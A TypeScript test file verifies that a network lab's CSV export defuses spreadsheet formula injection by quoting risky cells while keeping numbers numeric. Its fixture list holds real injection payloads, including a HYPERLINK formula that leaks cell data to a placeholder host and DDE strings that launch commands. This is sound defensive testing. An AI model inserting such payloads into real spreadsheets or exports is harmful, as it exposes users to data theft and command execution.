// CSV formula injection (OWASP): a cell a spreadsheet would run as a formula is exported with a
// leading single quote; numbers stay numbers. One journal written directly, one real echo.
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportJournalCsv } from '../../src-main/engine/csv-export.js';
import { Lab } from '../../src-main/engine/lab.js';
import { CSV_COLUMNS } from '../../src-shared/events.js';
import type { LabEvent } from '../../src-shared/events.js';
import { makeEvent } from './lab-fixtures.js';

const DANGEROUS = [
  '=HYPERLINK("http://x/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
];
const HARMLESS = ['plain text', "it's fine", 'a=b', '1+1', ' =not first'];

describe('CSV formula injection', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'netlab-csv-injection-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('prefixes every cell starting with = + - @ tab or CR with a quote, and leaves the rest alone', async () => {
    const details = [...DANGEROUS, ...HARMLESS];
    const events: LabEvent[] = details.map((d, i) => ({ ...makeEvent(i + 1, d), remote: d, command: null }));
    const journal = join(dir, 'j.ndjson');
    writeFileSync(journal, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
    const out = join(dir, 'out.csv');
    await exportJournalCsv(journal, statSync(journal).size, out);
    const records = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    details.forEach((d, i) => {
      const expected = DANGEROUS.includes(d) ? `'${d}` : d;
      expect(records[i]!.detail, JSON.stringify(d)).toBe(expected);
      expect(records[i]!.remote, JSON.stringify(d)).toBe(expected);
    });
  });

  it('keeps numeric cells numeric, negative numbers included', async () => {
    // t below zero stands for clock skew between threads: still a number, never a formula.
    const event: LabEvent = { ...makeEvent(7, '-5'), t: -0.25, bytes: -5, segment: -1 };
    const journal = join(dir, 'j.ndjson');
    writeFileSync(journal, JSON.stringify(event) + '\n');
    const out = join(dir, 'out.csv');
    await exportJournalCsv(journal, statSync(journal).size, out);
    const [row] = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(row!.bytes).toBe('-5');
    expect(row!.segment).toBe('-1');
    expect(row!.seq).toBe('7');
    expect(row!.t_ms).toBe('-0.25');
    // A text cell that looks like a negative number is still text a spreadsheet could evaluate.
    expect(row!.detail).toBe("'-5");
  });

  it("neutralises a peer's echo text end to end (real TCP server and client)", async () => {
    const lab = await Lab.create({ journalPath: join(dir, 'journal.ndjson'), batchIntervalMs: 10 });
    try {
      const server = await lab.startServer({ proto: 'tcp', host: '127.0.0.1', port: 0 });
      if (!server.ok) throw new Error(server.error.message);
      const client = await lab.openClient({ proto: 'tcp', host: '127.0.0.1', port: server.value.port! });
      if (!client.ok) throw new Error(client.error.message);
      const text = '=HYPERLINK("http://x/?"&A1,"click")';
      const sent = await lab.send({ endpointId: client.value.id, command: { type: 'echo', text } });
      expect(sent.ok).toBe(true);
      const out = join(dir, 'session.csv');
      const exported = await lab.exportCsv({ path: out });
      expect(exported.ok).toBe(true);
      const records = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
      expect(Object.keys(records[0]!)).toEqual([...CSV_COLUMNS]);
      const cells = records.flatMap((r) => Object.values(r));
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      expect(records.some((r) => r.detail === `'${text}`)).toBe(true);
    } finally {
      await lab.close();
    }
  });
});
